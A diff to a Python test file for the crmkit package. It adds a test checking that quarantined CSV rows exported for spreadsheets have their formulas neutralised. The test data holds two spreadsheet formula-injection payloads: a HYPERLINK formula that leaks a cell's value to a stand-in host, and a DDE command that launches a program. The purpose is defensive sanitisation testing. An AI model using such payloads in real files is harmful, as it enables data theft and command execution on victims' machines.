@@ -7,11 +7,12 @@ import io
 import shutil
 from pathlib import Path
 
+import pandas as pd
 import pytest
 
 from crmkit.errors import ParameterError
 from crmkit.lessons import lesson02
-from crmkit.warehouse.build import build_warehouse, query
+from crmkit.warehouse.build import build_warehouse, quarantine, query
 from crmkit.warehouse.cube import cube, pivot
 
 GOOD = Path(__file__).resolve().parents[1] / "data" / "extracts" / "boutique"
@@ -91,3 +92,23 @@ def test_the_sql_exercise_checker_refuses_stacked_statements(hostile, tmp_path):
             lesson02.run_sql(ws, sql, lang="es")
     assert not out.exists()
     assert lesson02.run_sql(ws, "SELECT count(*) FROM marts.dim_channel") == 4
+
+
+def test_quarantine_export_for_spreadsheets_neutralises_formulas(tmp_path, capsys):
+    from crmkit.cli import main
+
+    folder = tmp_path / "batch"
+    shutil.copytree(GOOD, folder)
+    with open(folder / "web_orders.csv", "a", encoding="utf-8") as f:
+        f.write('=HYPERLINK("http://example.invalid/?leak="&A1),1\n')
+        f.write("@SUM(1+1)*cmd|' /C calc'!A0\n")
+    db = build_warehouse(folder, tmp_path / "shop.duckdb")
+    out = tmp_path / "quarantine.csv"
+    assert main(["warehouse", "quarantine", str(db), "--csv", str(out)]) == 0
+    got = pd.read_csv(out, encoding="utf-8-sig", dtype=str, keep_default_na=False)
+    records = got.loc[got["file"] == "web_orders.csv", "record"].tolist()
+    assert "'=HYPERLINK(\"http://example.invalid/?leak=\"&A1),1" in records
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in records
+    for cell in got.to_numpy().ravel():
+        assert not str(cell).startswith(("=", "+", "@")), cell
+    assert len(got) == len(quarantine(db))  # every quarantined row, nothing else
